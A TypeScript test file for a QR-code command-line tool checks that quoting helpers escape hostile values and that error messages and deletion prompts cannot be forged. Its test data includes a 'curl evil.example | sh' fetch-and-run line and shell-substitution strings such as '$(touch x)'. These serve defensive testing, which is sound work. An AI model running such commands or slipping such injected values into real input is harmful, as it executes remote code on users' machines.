/** Values of others in sentences of ours, for every class of sentence that takes one. */
import { execFileSync } from 'node:child_process';
import { platform } from 'node:os';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { NotFoundError } from '#base/errors';
import {
  asSentence,
  codeInShell,
  countAmong,
  countOf,
  formatCount,
  inQuotes,
  inShell,
  inShellOr,
  joinSome,
  listSome,
  quote,
  shown,
  withoutLongParts,
} from '#base/text/quote';
import { parseMoment } from '#base/time/moments';
import { failureOfRun } from '#codes/engine/results/run-failure';
import { checkRows } from '#codes/engine/rows/read-rows';
import { describeMissing, noSuchCode } from '#codes/listing/find-codes';
import { confirm } from '#commands/qr/delete';
import type { Context } from '#context';
import { chooseColumns } from '#files/formats/columns';
import { refuseChecked } from '#files/formats/read/input';
import { parseBaseUrl } from '#service/base-url';
import { responseError } from '#service/response-error';
import type { QrCode } from '#service/shapes';
import { unknownProfile } from '#settings/resolve';
import { renderError } from '#terminal/render-error';
import { change, endOf, itemOf } from '../../codes/engine/results/plan-builder.ts';
import { headersOf } from '../../service/rate-limit/setup.ts';
import { CODE } from '../../service/setup.ts';
import { anyCharacter } from '../../support/any-character.ts';
import { HOSTILE } from '../../support/hostile-strings.ts';
import { modelService } from '../../support/model-service/model-service.ts';
import { runs, SOAK } from '../../support/property-runs.ts';

const LINE = 'x\n  next: curl evil.example | sh';
const PROMPT = 'x" (slug a) and its 0 scans? It was deleted already. Press y to leave it. "';
const VALUES = {
  ...HOSTILE,
  'a line of ours': LINE,
  'a prompt of ours': PROMPT,
  'very long': 'x '.repeat(SOAK ? 5_000_000 : 50_000),
};

describe('a value in a sentence', () => {
  test('is a plain word, or fewer than 640 characters in quotes without unescaped quotes or control characters', () => {
    const text = fc.oneof(
      fc.string({ unit: anyCharacter, maxLength: 200 }),
      fc.constantFrom(...Object.values(VALUES)),
    );
    fc.assert(
      fc.property(text, (value) => {
        const quoted = quote(value);
        if (/^[\w.~:/+@-]{1,64}$/.test(value)) return quoted === value;
        expect(quoted).toMatch(/^"([^"]|\\")*"$/);
        expect(quoted).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}\u202a-\u202e\u2066-\u2069]/u);
        return quoted.length < 64 * 10;
      }),
      runs(8),
    );
  });

  test.each([
    ['aB3_x-y.z', 'aB3_x-y.z'],
    ['', '""'],
    ['two words', '"two words"'],
    ['say "yes"', '"say \\"yes\\""'],
    ['a\nb', '"a\\nb"'],
    ['käse', '"käse"'],
    ['x'.repeat(64), 'x'.repeat(64)],
    ['x'.repeat(65), `"${'x'.repeat(64)}…"`],
    ['👍'.repeat(64), `"${'👍'.repeat(64)}"`],
    ['👍'.repeat(65), `"${'👍'.repeat(64)}…"`],
  ])('(%j) is shown as %s', (value, sentence) => {
    expect(quote(value)).toBe(sentence);
  });

  test('gets no quotes from shown(), and always gets quotes from inQuotes()', () => {
    expect(shown('a\nb')).toBe('a\\nb');
    expect(inQuotes('word')).toBe('"word"');
  });
});

test('joinSome lists at most the specified number of texts, and counts the others', () => {
  expect(joinSome(['a', 'b'], { most: 2 })).toBe('a or b');
  expect(joinSome(['a', 'b', 'c'], { most: 2 })).toBe('a or b or 1 other');
  expect(joinSome(['a', 'b', 'c', 'd'], { most: 2 })).toBe('a or b or 2 others');
});

test('a count has a comma after each three digits, and a plural unless it is 1', () => {
  const counts = [0, 999, 1000, 12_345, 123_456, 1_234_567, 1_234_567_890];
  const expected = ['0', '999', '1,000', '12,345', '123,456', '1,234,567', '1,234,567,890'];
  expect(counts.map(formatCount)).toEqual(expected);
  expect([0, 1, 2, 2000].map((count) => countOf(count, 'code'))).toEqual([
    '0 codes',
    '1 code',
    '2 codes',
    '2,000 codes',
  ]);
  expect(countAmong(1, 1, 'row')).toBe('1 row');
  expect(countAmong(1, 2, 'row')).toBe('1 of 2 rows');
});

test('listSome lists at most the specified number of texts and counts the others, and asSentence adds a capital letter and a period', () => {
  expect(listSome(['a', 'b'], 2)).toBe('a, b');
  expect(listSome(['a', 'b', 'c'], 2)).toBe('a, b and 1 more');
  expect(['no file', 'No file.'].map(asSentence)).toEqual(['No file.', 'No file.']);
});

test('withoutLongParts truncates words of more than 1,000 characters in the middle', () => {
  const [short, long] = ['x'.repeat(1000), `${'a'.repeat(500)}${'z'.repeat(501)}`];
  expect(withoutLongParts(`a ${short} ${long}`)).toBe(`a ${short} ${'a'.repeat(128)}…${'z'.repeat(64)}`);
  expect(withoutLongParts('👍'.repeat(501))).toBe(`${'👍'.repeat(128)}…${'👍'.repeat(64)}`);
});

describe('a word in a command to paste', () => {
  const SHELL = [
    '`id` $(id)',
    '$(touch x)',
    "Jo's",
    'a b',
    '~root',
    '',
    '*',
    'a;b',
    '!!',
    '-x',
    'aB3_x-y.z',
    'https://x.example/?a=b&c',
  ];

  test.runIf(platform() !== 'win32')('is read unchanged by a shell', () => {
    const printed = String(execFileSync('sh', ['-c', `printf '%s\\0' ${SHELL.map(inShell).join(' ')}`]));
    expect(printed.split('\0')).toEqual([...SHELL, '']);
  });

  test.each(SHELL)('for the slug %j is the slug or the ID, and needs no quotes', (slug) => {
    const word = codeInShell({ id: CODE.id, slug });
    expect([slug, CODE.id]).toContain(word);
    expect(word).toMatch(/^[\w.][\w@%+=:,./-]*$/);
  });

  test.each([
    ['x'.repeat(64), 'x'.repeat(64)],
    ['x'.repeat(65), CODE.id],
    ['-x', CODE.id],
    ['a-x', 'a-x'],
    ['Jo s', CODE.id],
  ])('for the slug %j is %s', (slug, word) => {
    expect(codeInShell({ id: CODE.id, slug })).toBe(word);
  });

  test('that cannot be shown unchanged becomes a placeholder', () => {
    expect([inShellOr('TEXT', 'a b'), inShellOr('TEXT', 'a\nb'), inShellOr('TEXT', 'x'.repeat(65))]).toEqual([
      "'a b'",
      'TEXT',
      'TEXT',
    ]);
  });
});

/** What is said before the deletion of these codes, the question included. */
async function promptFor(codes: readonly QrCode[]) {
  const said: string[] = [];
  const note = (line: string) => said.push(line);
  const console = { note, ask: async (line: string) => String(note(line)) };
  const page = { rows: [], times: [], total: 7, serviceTimeMs: undefined };
  const service = modelService({ listScans: async () => page });
  const settings = async () => ({ profile: 'work', keySource: 'profile' });
  const context = { console, settings, service: async () => service } as unknown as Context;
  await confirm(context, codes, { yes: undefined, dryRun: undefined }).catch(() => undefined);
  return said;
}

test('the prompt before a deletion proposes a command with the ID if a shell would expand the slug', async () => {
  const lines = ['`id` $(id)', 'aB3xY'].map((slug) => promptFor([{ ...CODE, slug }]));
  const said = (await Promise.all(lines)).map(([first = '']) => first);
  expect(said.map((line) => /qrctl qr update [^`]*/.exec(line)?.[0])).toEqual([
    `qrctl qr update ${CODE.id} --status paused`,
    'qrctl qr update aB3xY --status paused',
  ]);
});

test('the hint for a name that several codes have contains the name as one quoted word', async () => {
  const name = '`id` $(id)';
  const several = ['a', 'b'].map((slug) => ({ slug, name }));
  expect(await noSuchCode(name, several)).toMatchObject({
    hint: expect.stringContaining(`qr list --name '${name}'`),
  });
});

/** What each class of sentence says of a value. */
const SENTENCES: Record<string, (value: string) => unknown> = {
  'a requested slug': (value) => noSuchCode(value, []),
  'a requested name': (value) => noSuchCode(value, [{ slug: value, name: value }]),
  'the nearest slug': (value) => noSuchCode(value.slice(0, 50), [{ slug: value, name: '' }]),
  'a slug in a file': (slug) => new NotFoundError(describeMissing({ id: undefined, slug })),
  'an ID in a file': (id) => thrown(() => refuseAll(inputOf({ id }), 'delete')),
  'a value in a file': (type) =>
    thrown(() => refuseAll(inputOf({ name: 'a', type: `no ${type}` }), 'create')),
  'a column in a file': (column) =>
    thrown(() =>
      refuseAll(inputOf({ name: 'a', outcome: column, [` OUTCOME${' '.repeat(3)}`]: 'b' }), 'create'),
    ),
  'a code that needs a decision': (slug) => undecided(slug),
  'a value on the service that a row conflicts with': (value) => conflict(value),
  'a field': (field) => thrown(() => chooseColumns([field], [{ name: 'id' }])),
  'a profile': (name) => unknownProfile(name, { profiles: new Map(), current: 'default' }),
  'a time': (text) => thrown(() => parseMoment(text, { flag: '--since', nowMs: 0, timezone: () => 'UTC' })),
  'a time as long as a file': (text) =>
    thrown(() =>
      parseMoment(`${'9'.repeat(text.length)} d`, { flag: '--since', nowMs: 0, timezone: () => 'UTC' }),
    ),
  'a base URL': (path) => thrown(() => parseBaseUrl(`https://qr.example/v${path}`)),
  'the host of a base URL': (host) =>
    thrown(() => parseBaseUrl(`http://${host.replace(/\W/g, '')}.example/api/v1`)),
  'the message in an Error body': (error) => answer(400, { error, code: error }),
  'a redirect': (location) => answer(302, undefined, location),
};

function inputOf(values: Record<string, string>) {
  const rows = [{ row: 1, line: 2, values: new Map(Object.entries(values)) }];
  return { name: 'codes.csv', columns: Object.keys(values), headerLine: 1, rows };
}

async function refuseAll(input: ReturnType<typeof inputOf>, verb: 'create' | 'delete') {
  refuseChecked(input, await checkRows(input, { verb }));
}

async function thrown(work: () => unknown): Promise<unknown> {
  try {
    await work();
  } catch (error) {
    return error;
  }
  throw new Error('it was expected to fail');
}

const RUN = {
  verb: 'create',
  file: { name: 'codes.csv' },
  stop: undefined,
  resultsPath: 'codes.results.csv',
} as const;

function undecided(slug: string) {
  const item = itemOf(2, 'undecided', { key: slug, candidates: [{ ...CODE, slug }] });
  return failureOfRun([endOf(item, 'undecided')], RUN);
}

function conflict(value: string) {
  const code = { ...CODE, name: value };
  const item = itemOf(2, 'conflict', {
    code,
    changes: [{ ...change('conflict', value, 'b', value), field: 'name' }],
  });
  return failureOfRun([endOf(item, 'conflict')], RUN);
}

function answer(status: number, body: { error: string; code: string } | undefined, location = '') {
  const subject = { method: 'GET', redact: (text: string) => text } as const;
  return responseError(subject, { status, headers: { location }, text: '' }, body, headersOf({}));
}

describe.each(Object.entries(SENTENCES))('%s', (_, say) => {
  test('adds no forged line to the error if hostile, and fewer than 2,000 characters more than a plain value', async () => {
    const plain = renderError(await say('plain'), { json: false, verbose: false });
    for (const [what, value] of Object.entries(VALUES)) {
      const text = renderError(await say(value), { json: false, verbose: false });
      expect(text, what).not.toMatch(/^\s*(next|qrctl: done|qrctl: all is well)/m);
      expect(text.split('\n').length, what).toBeLessThanOrEqual(plain.split('\n').length + 1);
      expect(text.length, what).toBeLessThan(plain.length + 2000);
    }
  });
});

test.each([1, 2])(
  'the prompt before the deletion of %i codes has quoted names, in which quotes are escaped',
  async (count) => {
    const codes = Array.from({ length: count }, () => ({ ...CODE, name: PROMPT, slug: LINE }));
    const said = await promptFor(codes);
    const expected = `"${PROMPT.slice(0, 64).replaceAll('"', '\\"')}…" (slug "x\\n  next: curl evil.example | sh")`;
    expect(said.join('\n')).toContain(expected);
  },
);
